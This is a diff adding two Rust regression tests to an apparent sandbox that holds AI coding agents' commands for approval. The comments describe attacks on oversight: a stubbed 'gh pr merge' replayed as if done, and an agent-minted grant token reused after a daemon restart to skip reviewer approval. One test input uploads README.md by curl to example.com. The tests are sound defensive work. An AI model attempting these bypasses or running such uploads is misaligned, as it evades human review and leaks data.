@@ -11,6 +11,7 @@ use std::os::unix::fs::{MetadataExt, PermissionsExt};
 use std::path::Path;
 use std::process::Command;
 
+use common::hook::{answer, claude_event, hook, hook_ws};
 use common::{Value, Who, Ws, as_test_user, bin, test_user};
 
 fn root_cli(state: &Path) -> Command {
@@ -169,4 +170,145 @@ fn root_never_chmods_or_fills_a_root_directory_through_the_agents_state_link() {
 
 fn hex_of(b: &[u8]) -> String {
     b.iter().map(|x| format!("{x:02x}")).collect()
+}
+
+/// Attack on what the agent is told: a command whose remote call a stub
+/// answers (`gh pr merge`) needs approval; after the yes, the hook's
+/// rewrite applied the local change set and replayed the rehearsal's
+/// output, `✓ Merged pull request`, exit 0, with nothing saying the merge
+/// was never made: the agent (and the person reading along) take the
+/// stubbed remote call as done.
+///
+/// Fixed: `--replay-output` names the calls stubs answered and says they
+/// were not made live (before and after the replayed output), unless the
+/// live lane re-ran the command.
+#[test]
+fn a_replayed_stub_answer_is_never_presented_as_done() {
+    let w = hook_ws("dryrun-hostile2-");
+    let a = answer(&hook(
+        &w,
+        "claude-code",
+        claude_event(&w.ws, "gh pr merge 1 --merge && echo merged > merged.txt")
+            .to_string()
+            .as_bytes(),
+        &[],
+    ));
+    let o = &a["hookSpecificOutput"];
+    assert_eq!(o["permissionDecision"], "ask", "{a}");
+    let reason = o["permissionDecisionReason"].as_str().unwrap_or("");
+    assert!(reason.contains("not made"), "{a}");
+    // The person says yes: the host runs the rewrite.
+    let cmd = o["updatedInput"]["command"].as_str().unwrap();
+    let out = Command::new("bash")
+        .args(["-c", cmd])
+        .current_dir(&w.ws)
+        .output()
+        .unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(w.ws.join("merged.txt").exists(), "{out:?}");
+    assert!(
+        stderr.contains("NOT made live") && stderr.contains("gh pr merge 1 --merge"),
+        "the stub's answer was replayed as if the merge happened: {out:?}"
+    );
+}
+
+/// Attack over the daemon across a restart: while an administrator had
+/// host-prompt approvals on, the agent's uid minted a grant for its own
+/// run (as any of its processes can) and kept the token; the daemon is
+/// restarted with them off (the default). Presenting the token, or racing
+/// several promotions with it, approves nothing; the run still waits for
+/// a reviewer, and only a reviewer's approval lets it go live.
+#[test]
+fn a_grant_minted_before_a_restart_with_host_prompts_off_approves_nothing() {
+    use common::daemon::{Daemon, submit_user, user_workspace};
+    if !common::daemon::require_root() {
+        return;
+    }
+    let mut d = Daemon::start(&["--host-prompt-approvals"]);
+    let ws = user_workspace();
+    let r = submit_user(
+        &d,
+        &ws,
+        "curl -X POST https://example.com/d -d @README.md; echo x > out.txt",
+        &["--expect-write", "out.txt"],
+    );
+    assert_eq!(r.decision(), "needs_approval", "{}", r.err());
+    let id = r.json["run_id"].as_str().unwrap().to_string();
+    let (code, grant) = d.curl(
+        Who::User,
+        "POST",
+        &format!("/v1/runs/{id}/host-prompt"),
+        Some(r#"{"host":"claude-code"}"#),
+    );
+    assert_eq!(code, 200, "{grant}");
+    let token = grant["token"].as_str().unwrap().to_string();
+    d.terminate();
+    d.restart(&[]);
+    let body = serde_json::json!({ "host_prompt_token": token }).to_string();
+    let path = format!("/v1/runs/{id}/promote");
+    let racers: Vec<_> = (0..3)
+        .map(|_| {
+            let (sock, body, path) = (d.socket.clone(), body.clone(), path.clone());
+            std::thread::spawn(move || {
+                as_test_user("curl")
+                    .args(["-sS", "-o", "-", "-w", "\n%{http_code}", "--unix-socket"])
+                    .arg(&sock)
+                    .args(["-X", "POST", "-H", "content-type: application/json"])
+                    .args(["--data-binary", &body])
+                    .arg(format!("http://dryrun{path}"))
+                    .output()
+                    .unwrap()
+            })
+        })
+        .collect();
+    for t in racers {
+        let o = t.join().unwrap();
+        let text = String::from_utf8_lossy(&o.stdout);
+        assert!(!text.ends_with("200"), "{text}");
+    }
+    // The hook's own rewrite with that token, as the agent's shell would run it.
+    let o = d
+        .cli_user()
+        .current_dir(&ws.dir)
+        .args([
+            "promote",
+            &id,
+            "--replay-output",
+            "--host-prompt-token",
+            &token,
+        ])
+        .output()
+        .unwrap();
+    assert_ne!(o.status.code(), Some(0), "{o:?}");
+    let (_, rec) = d.curl(Who::Root, "GET", &format!("/v1/runs/{id}"), None);
+    assert_eq!(rec["state"], "awaiting_approval", "{rec}");
+    assert!(!ws.dir.join("out.txt").exists());
+    // The waiting form succeeds once a reviewer approves, and not before.
+    let waiter = d
+        .cli_user()
+        .current_dir(&ws.dir)
+        .args(["promote", &id, "--replay-output", "--await-approval", "30"])
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(std::time::Duration::from_secs(2));
+    assert!(!ws.dir.join("out.txt").exists());
+    let o = d
+        .cli_root()
+        .args(["approve", &id, "--note", "ok"])
+        .output()
+        .unwrap();
+    assert!(o.status.success(), "{o:?}");
+    let o = waiter.wait_with_output().unwrap();
+    assert!(ws.dir.join("out.txt").exists(), "{o:?}");
+    let (_, rec) = d.curl(Who::Root, "GET", &format!("/v1/runs/{id}"), None);
+    assert_eq!(rec["state"], "promoted", "{rec}");
+    let by: Vec<_> = rec["approvals"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["authenticated_by"].as_str().unwrap_or("").to_string())
+        .collect();
+    assert_eq!(by, vec!["peer_credentials".to_string()], "{rec}");
 }
